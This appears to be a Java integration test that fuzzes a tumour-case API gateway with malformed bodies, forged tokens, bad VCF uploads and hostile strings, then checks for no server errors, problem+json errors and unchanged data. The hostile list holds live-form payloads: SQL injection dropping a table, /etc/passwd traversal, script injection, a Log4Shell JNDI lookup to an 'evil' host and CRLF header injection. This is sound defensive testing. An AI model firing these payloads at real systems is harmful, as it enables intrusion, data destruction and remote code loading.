package org.thyronco.system;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * A corpus of malformed and hostile requests at the gateway: none may produce a 5xx, every error is
 * problem+json, and no rejected request changes what is stored.
 */
@ExtendWith(SuiteExtension.class)
class BadInputIT {

    static final List<String> HOSTILE = List.of("' OR '1'='1", "1; DROP TABLE tumour_case;--", "../../etc/passwd",
            "..%2F..%2Fetc%2Fpasswd", "<script>alert(1)</script>", "${jndi:ldap://evil/x}", "%00", "\u0000",
            "{\"$where\":\"1\"}", "a".repeat(5000), "😀", "\\", "\"", "null", "-1", "1e309", "NaN", "  ",
            "CASE 1", "%", "#", "?x=1", "/", "C\r\nSet-Cookie: x=1");

    static final List<String> BODIES = List.of("", "{", "[", "null", "42", "\"str\"", "{\"caseId\":", "{]}",
            "{\"caseId\":123,\"context\":[]}", "{\"caseId\":\"X\",\"context\":{\"diagnosis\":7}}",
            "{\"caseId\":\"X\",\"context\":{\"diagnosis\":\"THAP\",\"ecog\":1e309}}",
            "{\"caseId\":\"X\",\"context\":{\"diagnosis\":\"THAP\",\"ecog\":99999999999999999999}}",
            "{\"findings\":[{\"type\":\"NOPE\"}]}", "{\"findings\":[{\"gene\":\"BRAF\",\"variant\":\"p.V600Z\"}]}",
            "{\"findings\":[{\"gene\":\"BRAFF\",\"variant\":\"V600E\"}]}", "{\"findings\":[]}", "{\"findings\":null}",
            "{\"findings\":[null]}", "{\"findings\":\"BRAF\"}", deep(200), "{\"caseId\":\"" + "x".repeat(200_000) + "\"}");

    static String deep(int n) {
        return "[".repeat(n) + "]".repeat(n);
    }

    /** What came back: status, content type, body. */
    record Outcome(int status, String contentType, String body) {
        static Outcome of(Response r) {
            return new Outcome(r.statusCode(), r.contentType(), r.asString());
        }
    }

    record Probe(String label, Supplier<Outcome> call) {}

    /** Raw HTTP for bodies the test client library refuses to send as they are. */
    static Outcome raw(String token, String path, String contentType, String body) {
        try {
            var request = java.net.http.HttpRequest.newBuilder(java.net.URI.create(SuiteExtension.gateway() + path))
                    .header("Authorization", "Bearer " + token).header("Content-Type", contentType)
                    .POST(java.net.http.HttpRequest.BodyPublishers.ofString(body)).build();
            var r = java.net.http.HttpClient.newHttpClient().send(request,
                    java.net.http.HttpResponse.BodyHandlers.ofString());
            return new Outcome(r.statusCode(), r.headers().firstValue("Content-Type").orElse(""), r.body());
        } catch (java.io.IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void noMalformedOrHostileRequestGetsA5xxOrChangesTheDatabase() {
        String lab = SuiteExtension.suite().issuer().token("fuzz-lab", List.of("lab"), "LAB-FUZZ", 3600);
        String admin = SuiteExtension.suite().issuer().token("fuzz-admin", List.of("admin"), null, 3600);
        String caseId = "FUZZ-" + System.nanoTime();
        base(lab).contentType("application/json")
                .body("{\"caseId\":\"" + caseId + "\",\"context\":{\"diagnosis\":\"THAP\"}}")
                .post("/api/v1/cases").then().statusCode(201);
        String before = snapshot(admin, caseId);

        List<Probe> probes = new ArrayList<>();
        for (String h : HOSTILE) {
            probes.add(new Probe("case id " + abbreviate(h), () -> Outcome.of(base(lab).urlEncodingEnabled(false)
                    .get("/api/v1/cases/" + encode(h)))));
            probes.add(new Probe("gene " + abbreviate(h), () -> Outcome.of(base(lab).queryParam("gene", h).get("/api/v1/evidence"))));
            probes.add(new Probe("variant " + abbreviate(h), () -> Outcome.of(base(lab).queryParam("variant", h).get("/api/v1/evidence"))));
            probes.add(new Probe("diagnosis " + abbreviate(h), () -> Outcome.of(base(lab).queryParam("diagnosis", h).get("/api/v1/cases"))));
            probes.add(new Probe("release " + abbreviate(h), () -> Outcome.of(base(lab).queryParam("release", h)
                    .get("/api/v1/cases/" + caseId + "/recommendations"))));
            probes.add(new Probe("job " + abbreviate(h), () -> Outcome.of(base(lab).urlEncodingEnabled(false).get("/api/v1/jobs/" + encode(h)))));
            probes.add(new Probe("normalize " + abbreviate(h), () -> Outcome.of(base(lab).contentType("application/json")
                    .body("{\"gene\":\"BRAF\",\"variant\":" + quote(h) + "}").post("/api/v1/normalize"))));
            probes.add(new Probe("idempotency " + abbreviate(h), () -> Outcome.of(base(lab).contentType("application/json")
                    .header("Idempotency-Key", h.replaceAll("[^\\x20-\\x7e]", ""))
                    .body("{\"findings\":[{\"gene\":\"BRAF\",\"variant\":\"p.V600Z\"}]}")
                    .post("/api/v1/cases/" + caseId + "/profiles"))));
        }
        for (String body : BODIES) {
            probes.add(new Probe("case body " + abbreviate(body), () -> Outcome.of(base(lab).contentType("application/json")
                    .body(body).post("/api/v1/cases"))));
            probes.add(new Probe("profile body " + abbreviate(body), () -> Outcome.of(base(lab).contentType("application/json")
                    .body(body).post("/api/v1/cases/" + caseId + "/profiles"))));
            probes.add(new Probe("match body " + abbreviate(body), () -> Outcome.of(base(lab).contentType("application/json")
                    .body(body).post("/api/v1/match"))));
        }
        String[] vcfs = {"", "not a vcf", "##fileformat=VCFv4.2\n", "##fileformat=VCFv4.2\n#CHROM\tPOS\n1\t2\n",
            "##fileformat=VCFv4.2\n#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\nchr7\tabc\t.\tA\tT\t.\tPASS\t.\n",
            "##fileformat=VCFv4.2\n#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\nchr7\t140753336\t.\tA\tJ\t.\tPASS\t.\n",
            "\u001f\u008b\b\u0000garbage", "\u0000\u0001\u0002\u0003"};
        for (String vcf : vcfs) {
            probes.add(new Probe("vcf " + abbreviate(vcf), () -> Outcome.of(base(lab).contentType("text/vcf").body(vcf)
                    .post("/api/v1/cases/" + caseId + "/uploads"))));
        }
        for (String type : new String[] {"application/xml", "text/html", "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded"}) {
            probes.add(new Probe("content type " + type, () -> raw(lab, "/api/v1/cases", type, "x=1")));
            probes.add(new Probe("upload content type " + type, () -> raw(lab, "/api/v1/cases/" + caseId + "/uploads",
                    type, "x=1")));
        }
        for (String auth : new String[] {"", "Bearer", "Bearer x", "Bearer a.b.c", "Basic dXNlcjpwYXNz",
            "Bearer " + lab.substring(0, lab.length() - 4) + "AAAA", "Bearer " + lab + "x"}) {
            probes.add(new Probe("auth " + abbreviate(auth), () -> Outcome.of(given().baseUri(SuiteExtension.gateway())
                    .header("Authorization", auth).get("/api/v1/cases"))));
        }
        assertThat(probes).hasSizeGreaterThanOrEqualTo(200);

        List<String> failures = new ArrayList<>();
        for (Probe p : probes) {
            Outcome r = p.call().get();
            int status = r.status();
            if (status >= 500) {
                failures.add(p.label() + " -> " + status + " " + abbreviate(r.body()));
            } else if (status >= 400 && !r.contentType().startsWith("application/problem+json")) {
                failures.add(p.label() + " -> " + status + " with " + r.contentType());
            }
        }
        assertThat(failures).as("requests answered with a 5xx or a non-problem error").isEmpty();
        assertThat(snapshot(admin, caseId)).as("stored state after the corpus").isEqualTo(before);
    }

    /** What an administrator can see of the store: the case list total and this case's profiles. */
    private static String snapshot(String admin, String caseId) {
        String cases = base(admin).get("/api/v1/cases?size=1").then().statusCode(200).extract().path("total")
                .toString();
        String profiles = base(admin).get("/api/v1/cases/" + caseId + "/profiles").then().statusCode(200)
                .extract().asString();
        return cases + "|" + profiles;
    }

    private static RequestSpecification base(String token) {
        return given().baseUri(SuiteExtension.gateway()).header("Authorization", "Bearer " + token);
    }

    /** Percent-encodes everything, braces included, so the client sends the hostile text as it is. */
    private static String encode(String s) {
        return java.net.URLEncoder.encode(s, java.nio.charset.StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String quote(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"").replace("\u0000", "\\u0000")
                .replace("\r", "\\r").replace("\n", "\\n") + "\"";
    }

    private static String abbreviate(String s) {
        String one = s.replaceAll("[\\r\\n\\p{Cntrl}]", "?");
        return one.length() > 60 ? one.substring(0, 60) + "…" : one;
    }
}
